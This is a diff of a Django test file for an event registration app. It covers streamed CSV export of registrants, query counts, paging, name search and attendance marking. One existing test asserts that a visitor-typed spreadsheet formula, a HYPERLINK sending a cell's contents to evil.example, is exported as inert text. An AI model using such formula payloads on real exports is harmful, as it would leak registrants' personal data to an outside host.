@@ -14,6 +14,11 @@ from tests.events.factories import EventFactory, RegistrationFactory
 pytestmark = pytest.mark.django_db
 
 
+def _csv_rows(response) -> list[list[str]]:
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(body), delimiter=";"))
+
+
 @pytest.fixture
 def event(lab):
     return EventFactory(key="atelier", organiser_lab=lab, capacity=3)
@@ -119,7 +124,7 @@ def test_the_export_is_a_csv_that_says_it_holds_personal_data(client, event, lab
         response["Content-Disposition"]
         == 'attachment; filename="inscrits-atelier-donnees-personnelles.csv"'
     )
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    rows = _csv_rows(response)
     assert rows[0] == [
         "Nom",
         "Adresse électronique",
@@ -150,12 +155,13 @@ def test_the_export_is_a_csv_that_says_it_holds_personal_data(client, event, lab
 @pytest.mark.parametrize(
     ("url", "queries"),
     [
-        # session, user, event (+ places), the user's lab roles, the registrations,
-        # + header labs
-        ("/evenements/atelier/presences/", 6),
-        # the same, and the audit entry of the download (the chain head locked, the entry,
-        # the head moved on: docs/adr/0022)
-        ("/evenements/atelier/inscrits.csv", 8),
+        # session, user, event (+ places), the user's lab roles, the registrations counted
+        # by status, one page of them, + header labs
+        ("/evenements/atelier/presences/", 7),
+        # session, user, event, lab roles, the count, the audit entry of the download (the
+        # chain head locked, the entry, the head moved on: docs/adr/0022), the rows
+        # (streamed in chunks of 1,000: one query here)
+        ("/evenements/atelier/inscrits.csv", 9),
     ],
 )
 def test_organiser_pages_do_not_grow_with_registrations(client, event, lab_member, url, queries):
@@ -163,7 +169,10 @@ def test_organiser_pages_do_not_grow_with_registrations(client, event, lab_membe
 
     def count():
         with CaptureQueriesContext(connection) as ctx:
-            assert client.get(url).status_code == 200
+            response = client.get(url)
+            assert response.status_code == 200
+            if response.streaming:
+                b"".join(response.streaming_content)
         return len(ctx.captured_queries)
 
     RegistrationFactory.create_batch(2, event=event)
@@ -205,7 +214,7 @@ def test_the_export_writes_formulas_typed_by_visitors_as_text(client, event, lab
 
     response = client.get("/evenements/atelier/inscrits.csv")
 
-    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    rows = _csv_rows(response)
     assert [row[:3] for row in rows[1:3]] == [
         [
             '\'=HYPERLINK("http://evil.example/?x="&B3,"Cliquez")',
@@ -214,3 +223,70 @@ def test_the_export_writes_formulas_typed_by_visitors_as_text(client, event, lab
         ],
         ["'-Moins", "m@exemple.fr", "'+33 1 23"],
     ]
+
+
+def test_the_sheet_shows_one_page_of_one_list_at_a_time(client, event, lab_member, monkeypatch):
+    from labnet.www.events import organiser_views
+
+    monkeypatch.setattr(organiser_views, "SHEET_PAGE_SIZE", 2)
+    event.capacity = None
+    event.save()
+    for name in ("Ana", "Bob", "Cyd"):
+        RegistrationFactory(event=event, full_name=name, email=f"{name.lower()}@ex.fr")
+    RegistrationFactory(event=event, full_name="Wes", status=RegistrationStatus.WAITING, position=1)
+    client.force_login(lab_member)
+
+    first = client.get("/evenements/atelier/presences/").content.decode()
+    second = client.get("/evenements/atelier/presences/?page=2").content.decode()
+    waiting = client.get("/evenements/atelier/presences/?liste=waiting").content.decode()
+
+    assert "ana@ex.fr" in first and "bob@ex.fr" in first and "cyd@ex.fr" not in first
+    assert "cyd@ex.fr" in second and "ana@ex.fr" not in second
+    assert "3 inscrits confirmés" in first
+    assert "Liste d'attente (1)" in first
+    assert '<ol id="waiting"><li value="1">Wes' in waiting
+    assert 'id="confirmed"' not in waiting
+
+
+def test_the_sheet_finds_a_person_by_name_ignoring_accents(client, event, lab_member):
+    RegistrationFactory(event=event, full_name="Hélène Martin", email="h@ex.fr")
+    RegistrationFactory(event=event, full_name="Paul Durand", email="p@ex.fr")
+    client.force_login(lab_member)
+
+    html = client.get("/evenements/atelier/presences/?q=helene").content.decode()
+
+    assert "h@ex.fr" in html and "p@ex.fr" not in html
+    assert "1 personne trouvée." in html
+
+
+def test_saving_a_page_of_marks_leaves_the_other_pages_alone(client, event, lab_member):
+    paul = RegistrationFactory(event=event, full_name="Paul", attendance=Attendance.PRESENT)
+    anne = RegistrationFactory(event=event, full_name="Anne")
+    client.force_login(lab_member)
+
+    response = client.post(
+        "/evenements/atelier/presences/",
+        {f"attendance_{anne.pk}": "absent", "return": "page=2&q=anne&evil=1"},
+    )
+
+    assert response.status_code == 302
+    assert response["Location"] == "/evenements/atelier/presences/?q=anne&page=2"
+    paul.refresh_from_db()
+    anne.refresh_from_db()
+    assert (paul.attendance, anne.attendance) == (Attendance.PRESENT, Attendance.ABSENT)
+
+
+def test_marks_of_another_event_or_status_are_ignored(client, event, lab_member):
+    other = RegistrationFactory(full_name="Elsewhere")
+    waiting = RegistrationFactory(event=event, status=RegistrationStatus.WAITING, position=1)
+    client.force_login(lab_member)
+
+    response = client.post(
+        "/evenements/atelier/presences/",
+        {f"attendance_{other.pk}": "present", f"attendance_{waiting.pk}": "present"},
+    )
+
+    assert response.status_code == 302
+    other.refresh_from_db()
+    waiting.refresh_from_db()
+    assert (other.attendance, waiting.attendance) == ("", "")
